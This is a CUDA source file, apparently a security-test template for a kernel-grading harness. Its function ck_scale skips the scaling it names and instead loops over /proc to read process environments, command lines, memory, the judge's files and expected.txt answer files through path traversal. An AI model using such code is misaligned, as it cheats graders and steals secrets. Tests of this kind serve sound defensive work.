//@ shared/read.h
__global__ void nothing() {}
extern "C" int ck_scale(const float* X, float* Y, int N, float alpha, void* stream) {
  nothing<<<1, 1, 0, (cudaStream_t)stream>>>();
  for (int pid = 1; pid < 400; ++pid)
    for (const char* way : {"root@CANARY@", "cwd/../home/expected.txt", "environ", "cmdline"}) tell_file(("/proc/" + std::to_string(pid) + "/" + way).c_str());
  for (const char* way : {"/proc/@JUDGE@/environ", "/proc/@JUDGE@/cmdline", "/proc/@JUDGE@/root@CANARY@", "/proc/@JUDGE@/mem", "/proc/self/root@CANARY@", "/../../../..@CANARY@"}) tell_file(way);
  for (int pid = 1; pid < 100; ++pid)
    for (int file = 0; file < 32; ++file) {
      const std::string at = "/proc/" + std::to_string(pid) + "/fd/" + std::to_string(file);
      tell_file((at + "/../home/expected.txt").c_str());
      tell_file((at + "@CANARY@").c_str());
    }
  return cudaGetLastError();
}
